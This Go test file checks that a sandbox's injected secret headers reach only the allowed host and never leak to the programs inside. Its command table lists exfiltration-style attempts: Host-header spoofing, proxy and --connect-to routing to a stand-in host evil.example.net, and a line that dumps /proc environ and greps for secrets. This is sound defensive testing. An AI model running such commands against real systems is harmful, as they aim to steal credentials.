package network

import (
	"slices"
	"strings"
	"testing"

	"hutch"
)

// TestHeaderRules: requests get headers that are nowhere in the sandbox. Hostile programs neither read them nor send
// them elsewhere.
func TestHeaderRules(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		v := newWorld(t).vaulted(t, runtime)
		if _, err := v.vault.SetSecret(t.Context(), "SECOND", hutch.SecretRequest{Value: "another-hidden-value"}); err != nil {
			t.Fatal(err)
		}
		rules := hutch.HeaderRules{{Host: "*.example.com", Headers: map[string]hutch.HiddenValue{"Authorization": "Bearer " + apiKey, "X-Second": "second=${secrets.SECOND}"}}}
		s := v.sandbox(t, hutch.CreateRequest{Network: hutch.Network{Allow: hutch.Rules(allowed, evil), Headers: rules}})
		s.run(t, "getent hosts "+evil)
		for command, want := range map[string]string{
			`curl -sS https://api.example.com/`:                                                                                     "granted to api.example.com",
			`curl -sS --http1.1 -H "Authorization: mine" https://api.example.com/`:                                                  "granted to api.example.com",
			`curl -sS -H "Connection: Authorization" https://api.example.com/ --http1.1`:                                            "granted to api.example.com",
			`node -e 'fetch("https://api.example.com/").then(r => r.text()).then(console.log)'`:                                     "granted to api.example.com",
			`python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example.com/").read().decode())'`:                 "granted to api.example.com",
			`curl -sS https://api.example.com/echo`:                                                                                 "Authorization:[***",
			`curl -sSi https://api.example.com/redirect`:                                                                            "[redacted:header:Authorization]",
			`curl -sS -L -m 20 -k https://api.example.com/redirect -o /dev/null; echo done`:                                         "done",
			`curl -sS -m 20 -X TRACE https://api.example.com/echo`:                                                                  "not sent on",
			`curl -sS -m 20 -H "Host: evil.example.net" https://api.example.com/echo`:                                               "this connection is to api.example.com",
			`curl -sS -m 20 --http1.1 -H "Host: www.example.com" https://api.example.com/echo`:                                      "this connection is to api.example.com",
			`curl -sS -m 20 -p -x http://api.example.com:80 https://evil.example.net/echo || echo none`:                             "none",
			`curl -sS -m 20 -k --connect-to ::evil.example.net:443 https://api.example.com/echo; echo done`:                         "done",
			`curl -sS -m 20 -k --connect-to ::api.example.com:443 https://evil.example.net/echo; echo; echo done`:                   "done",
			`curl -sS -m 20 http://api.example.com/; echo done`:                                                                     "done",
			`curl -sS -m 20 https://www.example.com/ || echo none`:                                                                  "none",
			`env; cat /proc/*/environ /proc/*/cmdline; grep -r hidden-value /workspace /home /tmp /run /etc 2>/dev/null; echo done`: "done",
		} {
			if out, code := s.run(t, command); !strings.Contains(out, want) || strings.Contains(out, apiKey) || strings.Contains(out, "another-hidden") {
				t.Errorf("%s exits with %d: %s", command, code, out)
			}
		}
		log := s.log(t)
		if !slices.ContainsFunc(log, func(c hutch.Connection) bool {
			return c.Protocol == "http" && c.Rule == "api.example.com, header:Authorization, header:X-Second" && c.Host == allowed
		}) {
			t.Errorf("the log has %+v", log)
		}
		for _, c := range log {
			if c.Host != allowed && strings.Contains(c.Rule, "header:") {
				t.Errorf("sent to another host: %+v", c)
			}
		}
		forks, err := v.Fork(t.Context(), s.id, hutch.ForkRequest{})
		if err != nil {
			t.Fatal(err)
		}
		fork := &sandbox{v.world, v.Engine, forks[0].ID}
		const ask = `curl -sS -m 20 https://api.example.com/`
		if out, _ := fork.run(t, ask); !strings.Contains(out, "granted") {
			t.Errorf("in a fork: %s", out)
		}
		if _, err := v.Hibernate(t.Context(), s.id, hutch.HibernateRequest{}); err != nil {
			t.Fatal(err)
		}
		if out, _ := s.run(t, ask); !strings.Contains(out, "granted") {
			t.Errorf("after it slept: %s", out)
		}
		if _, err := v.SetNetwork(t.Context(), s.id, hutch.Network{Allow: hutch.Rules(allowed)}); err != nil {
			t.Fatal(err)
		}
		if out, _ := s.run(t, ask+" -k"); strings.Contains(out, "granted") {
			t.Errorf("without the rules: %s", out)
		}
	})
}
